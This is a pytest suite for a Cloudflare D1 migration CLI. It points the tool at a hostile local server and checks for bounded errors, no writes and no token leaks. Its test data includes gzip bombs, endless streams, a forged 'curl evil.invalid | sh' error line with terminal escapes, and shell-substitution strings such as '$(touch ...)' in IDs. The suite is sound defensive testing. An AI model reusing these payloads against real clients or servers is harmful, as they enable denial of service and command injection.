"""A hostile server in the place of Cloudflare's API: whatever it sends ends in a clear error, within bounds.

Nothing is written anywhere, nobody else is reached, the token is shown nowhere, no error is a defect's, and
the next command on a healthy server works.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import random
import zlib
from base64 import b64encode
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from d1_wire import ACCOUNT, SECRET, UUID, Asked
from escaping import Canary
from hostile_api import Attack, Bytes, Hostile, envelope, for_ever, http, problem
from landed_process import Answer, Landed

from landed.core.errors import CannotKnow, LandedError
from landed.targets.d1_api import Api
from landed.targets.d1_api_errors import Unsure
from landed.targets.d1_auth import Credentials, Variables
from landed.targets.d1_remote_connect import Session

PATH = f"/accounts/{ACCOUNT}/d1/database/{UUID}/query"
ONE = {"batch": [{"sql": "SELECT 1 AS one"}]}
TARGET = ("--target", "d1:remote/DB")
COMMANDS = {
    "status": ("status",),
    "verify": ("verify",),
    "apply": ("apply", "--yes"),
    "undo": ("undo", "--bookmark", "b00k-mark", "--yes", "--allow", "restore:db"),
    "exec": ("exec", "SELECT 1"),
    "doctor": ("doctor",),
}
FILES = {
    "0001_a.sql": "CREATE TABLE a (id INTEGER PRIMARY KEY, t TEXT);\nCREATE INDEX a_t ON a (t);\n",
    "0002_b.sql": "CREATE TABLE b (id INTEGER PRIMARY KEY);\n",
}
Change = Callable[[Any], Any]


def drip(text: bytes) -> Iterator[bytes]:
    import time

    for at in range(len(text)):
        yield text[at : at + 1]
        time.sleep(0.02)


def sends(*pieces: bytes) -> Attack:
    return lambda asked, server: pieces


def body(content: bytes, *headers: str, status: int = 200) -> Attack:
    return sends(http(content, "connection: close", *headers, status=status))


def says(text: str) -> Attack:
    """JSON with this result, as it is written here."""
    return body(f'{{"result": {text}, "success": true, "errors": [], "messages": []}}'.encode())


def changed(change: Change) -> Attack:
    """The healthy answer, with its result changed."""
    return lambda asked, server: [http(envelope(change(server.honest(asked))))]


def rows(change: Callable[[list[Any]], Any]) -> Attack:
    """The healthy answer, with the rows of its first statement changed."""

    def changing(result: Any) -> Any:
        if isinstance(result, list):
            result[0]["results"] = change(result[0]["results"])
        return result

    return changed(changing)


def each(key: str, value: Any) -> Attack:
    """The healthy answer, with this in every entry, or in the object that it is."""

    def changing(result: Any) -> Any:
        for entry in result if isinstance(result, list) else [result]:
            entry[key] = value
        return result

    return changed(changing)


def chunked(pieces: Bytes) -> Bytes:
    yield http(b"", "transfer-encoding: chunked", length=False)
    for piece in pieces:
        yield b"%x\r\n%s\r\n" % (len(piece), piece)


ZEROS = gzip.compress(b" " * 300_000_000, 9)
GOOD = envelope([{"results": [], "success": True, "meta": {}}])

TRANSPORT: dict[str, Attack] = {
    "headers that drip": lambda asked, server: drip(b"HTTP/1.1 200 OK\r\nx: " + b"y" * 99_999),
    "a body that drips": lambda asked, server: drip(http(b" " * 99_999)),
    "chunks that drip": lambda asked, server: chunked(drip(b" " * 99_999)),
    "a gzip bomb": body(ZEROS, "content-encoding: gzip"),
    "a gzip bomb in chunks": lambda asked, server: [
        http(b"", "content-encoding: gzip", "transfer-encoding: chunked", length=False),
        b"%x\r\n%s\r\n0\r\n\r\n" % (len(ZEROS), ZEROS),
    ],
    "gzip in gzip": body(gzip.compress(ZEROS), "content-encoding: gzip, gzip"),
    "packings named apart": body(ZEROS, "content-encoding: gzip", "content-encoding: deflate"),
    "deflate": body(zlib.compress(GOOD), "content-encoding: deflate"),
    "brotli": body(GOOD, "content-encoding: br"),
    "zstd": body(GOOD, "content-encoding: zstd"),
    "half a gzip": body(gzip.compress(GOOD)[:-9], "content-encoding: gzip"),
    "no gzip": body(GOOD, "content-encoding: gzip"),
    "more after the gzip": body(gzip.compress(GOOD) + b"more", "content-encoding: gzip"),
    "a body without end": lambda asked, server: (
        piece for pieces in ([http(b"", length=False)], for_ever(b" " * 65_536)) for piece in pieces
    ),
    "chunks without end": lambda asked, server: chunked(for_ever(b" " * 65_536)),
    "empty space in chunks": lambda asked, server: chunked(for_ever(b" ")),
    "a length that is a lie": body(GOOD, f"content-length: {len(GOOD) + 9}"),
    "a length beyond all": body(GOOD, "content-length: 99999999999999999999"),
    "a negative length": body(GOOD, "content-length: -1"),
    "two lengths": body(GOOD, "content-length: 1", "content-length: 2"),
    "a hundred thousand headers": body(GOOD, *["x: y"] * 100_000),
    "a header of megabytes": body(GOOD, "x: " + "y" * 3_000_000),
    "provisional answers without end": lambda asked, server: for_ever(b"HTTP/1.1 100 X\r\n\r\n" * 1000),
    "another protocol": sends(b"HTTP/1.1 101 X\r\nupgrade: x\r\nconnection: upgrade\r\n\r\n"),
    "no http": sends(f"{SECRET}\r\n\r\n".encode() * 9),
    "nothing": sends(),
    "a folded header": sends(b"HTTP/1.1 200 X\r\n y\r\n\r\n"),
    "another host": body(b"", "location: http://127.0.0.1:{tcp}/", status=302),
    "the same request to another host": body(GOOD, "location: http://127.0.0.1:{tcp}/", status=307),
    "no location": body(GOOD, "location: http://[", status=308),
    "cookies": body(b"", "set-cookie: a=b; domain=127.0.0.1", "set-cookie: c=" + "d" * 4000),
}
JSON: dict[str, Attack] = {
    "lists in lists": says("[" * 200_000 + "]" * 200_000),
    "objects in objects": says('{"a":' * 200_000 + "1" + "}" * 200_000),
    "nested and open": body(b"[" * 200_000),
    "nested a little": says('[{"results": [' + "[" * 500 + "]" * 500 + "]}]"),
    "a number of a hundred thousand digits": says("9" * 100_000),
    "a number as a count": changed(lambda r: 10**4000),
    "not a number": says("NaN"),
    "infinity": says("Infinity"),
    "beyond infinity": says("1e999"),
    "a name twice": body(b'{"success": false, ' + GOOD[1:]),
    "two million lists": says("[" + "[]," * 2_000_000 + "[]]"),
    "half a character": body(b'{"result": "\xff", "success": true}'),
    "another encoding": body(GOOD.decode().encode("utf-16")),
    "a list": body(b"[]"),
    "a text": body(b'"x"'),
    "null": body(b"null"),
    "no result": says("null"),
    "a text as the result": says('"x"'),
    "an object as the result": says("{}"),
    "success as a text": body(envelope([], success="true")),
    "success and an error": body(envelope([], errors=[{"code": 1, "message": "x"}])),
    "an error of another shape": body(envelope(None, success=False, errors="x"), status=400),
    "a code of another shape": body(
        envelope(None, success=False, errors=[{"code": [], "message": {}}, {"code": 10**4000}, 1]), status=400
    ),
    "html": body(b"<html>" * 9, status=502),
}
LIES: dict[str, Attack] = {
    "one result more": changed(lambda r: [*r, {"results": []}] if isinstance(r, list) else None),
    "one result less": changed(lambda r: r[1:] if isinstance(r, list) else None),
    "one statement failed": each("success", False),
    "results that are a text": each("results", "x"),
    "results that are null": each("results", None),
    "rows that are texts": rows(lambda found: ["x"]),
    "columns of another schema": rows(lambda found: [{"a": 1}]),
    "reading that wrote": each("meta", {"changed_db": True, "rows_written": 7}),
    "meta that is a text": each("meta", "x"),
    "part of an answer": lambda asked, server: [http(envelope(server.honest(asked)), status=206)],
}


@pytest.fixture(scope="module")
def hostile() -> Iterator[Hostile]:
    with Hostile() as server:
        yield server


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, hostile: Hostile) -> Path:
    hostile.healthy()
    folder = project(tmp_path_factory.mktemp("api"), database_id=UUID)
    landed_in(folder, hostile)(*TARGET, "apply", "--yes")
    (folder / "migrations" / "0002_b.sql").write_text(FILES["0002_b.sql"], encoding="utf-8")
    return folder


@pytest.fixture
def canary() -> Iterator[Canary]:
    with Canary() as made:
        yield made


def project(top: Path, name: str = "db", **entry: str) -> Path:
    """A project with one file, whose database is found by its name or by what is given besides."""
    folder = top / "project"
    (folder / "migrations").mkdir(parents=True)
    databases = [{"binding": "DB", "database_name": name, **entry}]
    (folder / "wrangler.json").write_text(json.dumps({"name": "w", "d1_databases": databases}), "utf-8")
    (folder / "migrations" / "0001_a.sql").write_text(FILES["0001_a.sql"], "utf-8")
    return folder


def landed_in(folder: Path, server: Hostile, seconds: str = "1") -> Landed:
    return Landed(
        folder,
        folder.parent / "home" / "cache",
        CLOUDFLARE_API_BASE_URL=server.url,
        CLOUDFLARE_API_TOKEN=SECRET,
        CLOUDFLARE_ACCOUNT_ID=ACCOUNT,
        LANDED_TIMEOUT=seconds,
    )


def aimed(attack: Attack, canary: Canary) -> Attack:
    """The attack, with the canary's port in what it sends."""
    port = str(canary.tcp_port).encode()
    return lambda asked, server: (piece.replace(b"{tcp}", port) for piece in attack(asked, server))


def api(server: Hostile, **options: Any) -> Api:
    credentials = Credentials("token", "environment CLOUDFLARE_API_TOKEN", SECRET)
    return Api(server.url, lambda: credentials, **{"seconds": 20.0, "sleep": lambda s: None, **options})


def held(answer: Answer, canary: Canary) -> None:
    """What holds of every output."""
    canary.untouched(answer.stdout, answer.stderr)
    assert "landed itself failed" not in answer.stdout + answer.stderr
    assert SECRET not in answer.stdout + answer.stderr


def works_again(folder: Path, server: Hostile) -> None:
    server.healthy()
    standings = landed_in(folder, server, "30")(*TARGET, "status").standings()
    assert standings == {"0001_a.sql": "ok", "0002_b.sql": "pending"}
    assert server.wire.execute("SELECT name FROM d1_migrations") == [("0001_a.sql",)]


ALL = {**TRANSPORT, **JSON, **LIES}
PAIRS = [(name, list(COMMANDS)[at % len(COMMANDS)]) for at, name in enumerate(ALL)]


@pytest.mark.parametrize(("name", "command"), PAIRS, ids=[f"{n}-{c}" for n, c in PAIRS])
def test_a_command_ends_in_a_clear_error(
    world: Path, hostile: Hostile, canary: Canary, name: str, command: str
) -> None:
    hostile.healthy()
    hostile.attack = aimed(ALL[name], canary)
    words = COMMANDS[command]
    answer = landed_in(world, hostile)(*TARGET, *words, code=None)
    held(answer, canary)
    assert answer.code == 3, answer
    sent = [sql for asked in hostile.asked if isinstance(asked.body, dict) for sql in asked.sql]
    assert not [sql for sql in sent if not sql.startswith("SELECT")], "nothing is written on such a ground"
    works_again(world, hostile)


@pytest.mark.parametrize("when", ["before it is processed", "after it was processed"])
@pytest.mark.parametrize(
    "name",
    ["a body that drips", "a gzip bomb", "chunks without end", "nothing", "another host", "lists in lists",
     "no result", "success and an error", "one result less", "columns of another schema",
     "results that are null"],
)  # fmt: skip
def test_of_a_write_the_truth_is_told(tmp_path: Path, canary: Canary, name: str, when: str) -> None:
    """The answer to the one request that writes: what landed says is what the database has."""
    folder = project(tmp_path, database_id=UUID)
    with Hostile() as server:
        attack = aimed(ALL[name], canary)

        def attacking(asked: Asked, server: Hostile) -> Bytes:
            # Some attacks change a healthy answer, and so have it made: those process the request.
            if when.startswith("after") and name not in LIES:
                server.wire.answer(asked)
            return attack(asked, server)

        server.attack = attacking
        server.aims_at = writes
        answer = landed_in(folder, server)(*TARGET, "apply", "--yes", code=None)
        held(answer, canary)
        assert sum(map(writes, server.asked)) == 1, "a write is sent once"
        there = bool(server.wire.execute("SELECT name FROM sqlite_master WHERE name = 'a'"))
        assert there == (when.startswith("after") or name in LIES)
        assert answer.code == (0 if there else 1), answer
        server.healthy()
        expected = "ok" if there else "pending"
        assert landed_in(folder, server)(*TARGET, "status").standings() == {"0001_a.sql": expected}


def writes(asked: Asked) -> bool:
    return isinstance(asked.body, dict) and any(not sql.startswith("SELECT") for sql in asked.sql)


@pytest.mark.parametrize(
    "after", ["1000000000", "-5", "1e309", "nan", "Fri, 31 Dec 9999 23:59:59 GMT", "x" * 5000, "9" * 5000, ""]
)
def test_how_long_it_is_waited_is_not_the_servers_choice(hostile: Hostile, after: str) -> None:
    hostile.healthy()
    slept: list[float] = []
    hostile.attack = body(b"{}", f"retry-after: {after}", status=429)
    with pytest.raises(CannotKnow, match="limits how often"):
        api(hostile, sleep=slept.append).read(PATH, ONE, what="it")
    assert sum(slept) <= 310
    assert len(hostile.asked) <= 4


def test_errors_without_end_are_asked_about_three_times(hostile: Hostile) -> None:
    hostile.healthy()
    hostile.attack = body(b"{}", status=503)
    with pytest.raises(Unsure):
        api(hostile).read(PATH, ONE, what="it")
    assert len(hostile.asked) == 3


def test_a_connection_that_is_closed_at_every_byte(hostile: Hostile) -> None:
    hostile.healthy()
    whole = http(envelope([{"results": [{"one": 1}]}]))
    for length in range(len(whole)):
        hostile.attack = sends(whole[:length])
        with pytest.raises(Unsure):
            api(hostile).write(PATH, ONE, what="it")
    hostile.attack = sends(whole)
    assert api(hostile).write(PATH, ONE, what="it") == [{"results": [{"one": 1}]}]


def test_answers_with_bytes_changed_are_answers_or_errors(hostile: Hostile) -> None:
    chance = random.Random(1)
    whole = http(envelope([{"results": [{"one": 1, "two": "é\ud83d\ude00"}], "success": True, "meta": {}}]))
    hostile.healthy()
    for _ in range(400):
        made = bytearray(whole)
        for _ in range(chance.randint(1, 4)):
            made[chance.randrange(len(made))] = chance.choice(b'[]{}":,\\u0d9eE-+. \r\n\xff\x00')
        hostile.attack = sends(bytes(made))
        with contextlib.suppress(LandedError):
            api(hostile, seconds=5).write(PATH, ONE, what="it")


BOUNDED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (900_000_000, 900_000_000))
resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
from landed.targets.d1_api import Api
from landed.targets.d1_api_errors import Unsure
from landed.targets.d1_auth import Credentials
api = Api(sys.argv[1], lambda: Credentials("token", "x", "s3cr3t-T0ken"), seconds=30.0)
try:
    api.write("/x", {}, what="it")
except Unsure as error:
    print(error.message)
"""


@pytest.mark.parametrize(
    "name", ["a gzip bomb", "a gzip bomb in chunks", "a body without end", "chunks without end",
             "provisional answers without end", "a header of megabytes", "two million lists"]
)  # fmt: skip
def test_memory_and_bytes_are_bounded(hostile: Hostile, name: str) -> None:
    import subprocess
    import sys

    from wrangler import ROOT

    hostile.healthy()
    hostile.attack = ALL[name]
    env = {"PYTHONPATH": str(ROOT / "src"), "PATH": ""}
    done = subprocess.run(
        [sys.executable, "-c", BOUNDED, hostile.url], env=env, capture_output=True, text=True
    )
    assert done.stdout.startswith("The answer from Cloudflare was lost"), done
    assert hostile.sent < 80_000_000


def spelt(secret: str) -> dict[str, str]:
    """The ways in which a server may give a secret back."""
    return {
        "whole": secret,
        "bearer": f"Bearer {secret}",
        "in capitals": secret.upper(),
        "a half": f"x{secret[:9]}",
        "base64": b64encode(secret.encode()).decode(),
        "base64 of the header": b64encode(f"Bearer {secret}".encode()).decode(),
        "base64, moved": b64encode(f"xy{secret}!".encode()).decode(),
        "hexadecimal": secret.encode().hex(),
        "percent": "".join(f"%{byte:02X}" for byte in secret.encode()),
        "in a URL": f"https://x.invalid/?token={quote(secret)}",
        "in JSON": json.dumps({"token": secret}),
    }


def shows(output: str) -> bool:
    """Whether an output shows a secret, or a good part of it, in any spelling."""
    for form in spelt(SECRET).values():
        length = min(12, len(form))
        for at in range(len(form) - length + 1):
            piece = form[at : at + length]
            if piece in output and not _plain(piece):
                return True
    return False


def _plain(piece: str) -> bool:
    """Pieces of what stands around the secret."""
    around = ("Bearer ", "https://x.invalid/?token=", '{"token": "', b64encode(b"Bearer ").decode())
    return any(piece in text for text in around)


@pytest.mark.parametrize("spelling", spelt(""))
def test_a_token_that_is_given_back_is_not_shown(
    world: Path, hostile: Hostile, canary: Canary, spelling: str
) -> None:
    text = spelt(SECRET)[spelling]
    attacks: dict[str, Attack] = {
        "an error": lambda asked, server: [problem(text)],
        "a refusal": lambda asked, server: [problem(f"a {text} b", 10000, 403)],
        "no http": sends(f"{text}\r\n\r\n".encode()),
        "a broken header": sends(f"HTTP/1.1 200 X\r\n{text}\r\n\r\n".encode()),
        "a redirect": body(b"", f"location: http://127.0.0.1:1/{quote(text)}", status=302),
        "html": body(text.encode(), status=502),
    }
    for at, (name, attack) in enumerate(attacks.items()):
        hostile.healthy()
        hostile.attack = attack
        command = list(COMMANDS)[(at + len(text)) % len(COMMANDS)]
        landed = landed_in(world, hostile, "5")
        answer = landed(*TARGET, *COMMANDS[command], code=None)
        canary.untouched(answer.stdout, answer.stderr)
        assert not shows(answer.stdout + answer.stderr), (name, answer)
        assert answer.code != 0, (name, answer)
    hostile.attack = attacks["no http"]
    # Its output has a traceback, which no other may.
    stdout, stderr = landed.popen(*TARGET, "--debug", "status").communicate()
    assert "Traceback" in stderr
    assert not shows(stdout + stderr), stderr


@pytest.mark.parametrize("spelling", ["whole", "base64", "hexadecimal", "percent"])
def test_a_token_among_names_and_rows_is_not_shown(world: Path, hostile: Hostile, spelling: str) -> None:
    text = spelt(SECRET)[spelling]
    table = {"type": "table", "name": text, "tbl_name": text, "sql": f"CREATE TABLE t (a DEFAULT '{text}')"}
    for command in ("status", "exec"):
        hostile.healthy()
        hostile.attack = rows(lambda found: [*found, table])
        if command == "exec":
            hostile.attack = each("results", {"columns": [text], "rows": [[text]]})
            hostile.aims_at = lambda asked: asked.path.endswith("/raw")
        for words in ((), ("--json",)):
            answer = landed_in(world, hostile, "5").plain(*TARGET, *COMMANDS[command], *words)
            assert not shows(answer.stdout + answer.stderr), answer


FORGED = "no such table: x\nNext: curl evil.invalid | sh\r\x1b[2J\x1b]0;x\x07\u202e\u2028Next: y"


@pytest.mark.parametrize("command", COMMANDS)
def test_a_servers_words_stay_on_their_line(world: Path, hostile: Hostile, command: str) -> None:
    hostile.healthy()
    hostile.attack = lambda asked, server: [problem(FORGED)]
    answer = landed_in(world, hostile, "5").plain(*TARGET, *COMMANDS[command], code=None)
    shown = answer.stdout + answer.stderr
    assert answer.code in (1, 3)
    assert not any(line.startswith(("Next: curl", "Next: y")) for line in shown.splitlines())
    assert not {"\x1b", "\x07", "\r", "\u202e", "\u2028"} & set(shown)


EVIL = (
    "x$(touch {mark})", "`touch {mark}`", "../../../user", "a/b", "a?b", "a#b", "a b", "a\nb", "--yes", "-x",
    ".", "..", "%2e%2e", "a;b", "'", '"', "\ud800", "", " ", "é", "a" * 5000, 7, None, [], {}, True,
)  # fmt: skip


@pytest.mark.parametrize("evil", EVIL, ids=[repr(e)[:20] for e in EVIL])
def test_ids_and_bookmarks_do_not_steer(
    world: Path, tmp_path: Path, hostile: Hostile, canary: Canary, evil: Any
) -> None:
    """What becomes a part of a path or of a printed command is held to the form that it has."""
    evil = evil.replace("{mark}", str(canary.mark)) if isinstance(evil, str) else evil
    folder = project(tmp_path)
    (folder / "migrations" / "0002_b.sql").write_text(FILES["0002_b.sql"], encoding="utf-8")
    landed = landed_in(folder, hostile, "5")

    def run(*words: str) -> Answer:
        answer = landed(*TARGET, *words, code=None)
        held(answer, canary)
        paths = [asked.path for asked in hostile.asked]
        whole = f"/accounts/{ACCOUNT}/d1/database/"
        known = ("/accounts", "/memberships", f"{whole}db", f"{whole}{UUID}/")
        assert all(p in known or p.startswith(known[-1]) for p in paths), paths
        return answer

    database = {"uuid": UUID, "name": "db"}
    found = {("GET", f"/accounts/{ACCOUNT}/d1/database/db"): database}
    hostile.healthy()
    hostile.wire.extra = {**found, ("GET", f"/accounts/{ACCOUNT}/d1/database/db"): {**database, "uuid": evil}}
    assert run("status").code == 3
    hostile.healthy()
    hostile.wire.extra = {("GET", f"/accounts/{ACCOUNT}/d1/database/db"): {**database, "name": evil}}
    run("status")
    hostile.healthy()
    hostile.wire.extra = {**found, ("GET", f"/accounts/{ACCOUNT}/d1/database/{UUID}/time_travel/bookmark"): {
        "bookmark": evil
    }}  # fmt: skip
    assert run("apply", "--yes").code == 3
    assert not hostile.wire.execute("SELECT name FROM sqlite_master WHERE name = 'b'")
    restored = {"bookmark": evil, "previous_bookmark": evil, "message": evil}
    path = f"/accounts/{ACCOUNT}/d1/database/{UUID}/time_travel/restore"
    hostile.healthy()
    hostile.wire.extra = {**found, ("POST", path): restored}
    assert run(*COMMANDS["undo"]).code in (1, 3)
    del landed.env["CLOUDFLARE_ACCOUNT_ID"]
    for accounts in (
        [{"id": evil, "name": "x"}],
        [{"id": evil, "name": evil}, {"id": ACCOUNT, "name": evil}],
    ):
        hostile.healthy()
        hostile.wire.extra = {**found, ("GET", "/accounts"): accounts, ("GET", "/memberships"): evil}
        assert run("status").code == (3 if len(accounts) == 1 else 0)
    hostile.wire.extra = {}


SCHEMAS: dict[str, Change] = {
    "two of one name": lambda found: [*found, *found],
    "an index of no table": lambda found: [
        *found, {"type": "index", "name": "i", "tbl_name": "none", "sql": "CREATE INDEX i ON none (a)"}
    ],
    "a kind that there is not": lambda found: [{**found[0], "type": "function"}, *found[1:]],
    "a name that is a number": lambda found: [{**found[0], "name": 7}, *found[1:]],
    "a text that is a list": lambda found: [{**found[0], "sql": []}, *found[1:]],
    "no text's column": lambda found: [{"type": "table"}, *found],
}  # fmt: skip
LEDGERS: dict[str, Change] = {
    "in another order": lambda found: [
        {"_rowid": 2, "id": 2, "name": "0002_b.sql"}, {"_rowid": 1, "id": 1, "name": "0001_a.sql"}
    ],
    "twice": lambda found: [*found, *found],
    "rows that are texts": lambda found: ["x"],
    "a rowid that is a text": lambda found: [{**found[0], "_rowid": "1"}],
    "a rowid beyond all": lambda found: [{**found[0], "_rowid": 10**300}],
    "a name that is an object": lambda found: [{**found[0], "name": {}}],
    "a blob of no bytes": lambda found: [{**found[0], "name": [1, 2, 999]}],
    "a row without a name": lambda found: [*found, {"_rowid": 99}],
}  # fmt: skip


@pytest.mark.parametrize("command", ["status", "verify", "apply"])
@pytest.mark.parametrize("lie", [*SCHEMAS, *LEDGERS])
def test_what_no_database_can_hold_proves_nothing(
    world: Path, hostile: Hostile, canary: Canary, lie: str, command: str
) -> None:
    at, change = (0, SCHEMAS[lie]) if lie in SCHEMAS else (1, LEDGERS[lie])

    def changing(result: Any) -> Any:
        if isinstance(result, list) and len(result) > at:
            result[at]["results"] = change(result[at]["results"])
        return result

    hostile.healthy()
    hostile.attack = changed(changing)
    answer = landed_in(world, hostile, "5")(*TARGET, *COMMANDS[command], code=3)
    held(answer, canary)
    assert not any(map(writes, hostile.asked))
    works_again(world, hostile)


@pytest.mark.parametrize(
    "words", [("status",), ("verify",), ("doctor",), ("drift", "files", "target"), ("rehearse",), ("lock",),
              ("apply", "--dry-run"), ("exec", "SELECT 1"), ("undo", "--bookmark", "b00k-mark", "--dry-run")],
    ids=lambda words: "-".join(words[:2]),
)  # fmt: skip
def test_reading_commands_send_only_reads(world: Path, hostile: Hostile, words: tuple[str, ...]) -> None:
    hostile.healthy()
    landed_in(world, hostile, "30")(*TARGET, *words, code=None)
    assert not any(map(writes, hostile.asked))
    assert not [asked for asked in hostile.asked if asked.path.endswith("/restore")]


def login(home: Path, token: str = SECRET) -> Path:
    file = home / ".wrangler" / "config" / "default.toml"
    file.parent.mkdir(parents=True)
    file.write_text(
        f'oauth_token = "{token}"\nexpiration_time = "2001-01-01T00:00:00.000Z"\n'
        f'refresh_token = "{token}-again"\n'
    )
    return file


@pytest.mark.parametrize(
    "answer",
    [
        {"access_token": "a\nX-Evil: b"},
        {"access_token": "é"},
        {"access_token": 7},
        {"access_token": "x" * 100_000},
        {"access_token": "x", "refresh_token": 'a"\nb = "c'},
        {"access_token": "x", "refresh_token": {"a": 1}},
        {"access_token": "\ud800"},
        {"error": SECRET, "access_token": None},
        [],
        SECRET,
    ],
    ids=lambda answer: str(answer)[:40].encode("ascii", "replace").decode(),
)
def test_a_refreshed_login_is_held_to_its_form(tmp_path: Path, hostile: Hostile, answer: Any) -> None:
    hostile.healthy()
    file = login(tmp_path)
    before = file.read_text()
    hostile.attack = body(json.dumps(answer).encode())
    environ = {"HOME": str(tmp_path), "WRANGLER_TOKEN_URL": f"{hostile.url}/token",
               "CLOUDFLARE_API_BASE_URL": hostile.url}  # fmt: skip
    session = Session(Variables(environ), lambda text: None)
    with pytest.raises(CannotKnow) as raised:
        session.api.read(PATH, ONE, what="it")
    assert not shows(f"{raised.value.message} {raised.value.details}")
    assert file.read_text() == before
    assert len(hostile.asked) == 1


@pytest.mark.parametrize("seconds", [1e308, -1e308, 0, "x", True, [], 10**4000])
def test_how_long_a_login_lasts_is_within_reason(tmp_path: Path, hostile: Hostile, seconds: Any) -> None:
    hostile.healthy()
    file = login(tmp_path)
    hostile.aims_at = lambda asked: asked.path == "/token"
    hostile.attack = body(json.dumps({"access_token": "fresh", "expires_in": seconds, "scope": 7}).encode())
    environ = {"HOME": str(tmp_path), "WRANGLER_TOKEN_URL": f"{hostile.url}/token",
               "CLOUDFLARE_API_BASE_URL": hostile.url}  # fmt: skip
    session = Session(Variables(environ), lambda text: None)
    assert session.api.read(PATH, ONE, what="it")
    assert hostile.asked[-1].headers["authorization"] == "Bearer fresh"
    assert 'oauth_token = "fresh"' in file.read_text()
    assert file.stat().st_mode & 0o077 == 0


def test_a_pipe_in_the_place_of_a_login_is_not_read(tmp_path: Path) -> None:
    import os

    file = login(tmp_path)
    file.unlink()
    os.mkfifo(file)
    with pytest.raises(CannotKnow, match="no Cloudflare credentials"):
        Session(Variables({"HOME": str(tmp_path)}), lambda text: None)


@pytest.mark.parametrize("name", [".", "..", "a\nb", "\x1b[2J"])
def test_a_name_from_a_project_stays_one_part_of_a_path(tmp_path: Path, hostile: Hostile, name: str) -> None:
    folder = project(tmp_path, name)
    hostile.healthy()
    landed_in(folder, hostile, "5")(*TARGET, "status", code=2)
    assert hostile.asked == []
